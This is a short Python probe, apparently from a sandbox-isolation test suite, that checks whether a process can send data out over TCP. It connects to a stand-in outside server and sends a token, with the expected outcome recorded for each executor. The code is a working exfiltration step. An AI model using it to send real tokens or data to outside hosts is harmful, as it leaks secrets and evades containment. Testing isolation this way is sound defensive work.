"""Send data out over TCP.

Attempts:  connect to a port of a server that stands in for one outside, and send.
Success:   the stand-in hears it.
Proof:     heard tcp
Runs:      python
Executor:  import rule
Host:      lets it through: any network that reaches the outside can carry data out
Socket:    no network (ENETUNREACH)
"""

import socket

with socket.create_connection((target["outside"], target["tcp"]), 3) as connection:
    connection.sendall(target["token"].encode())
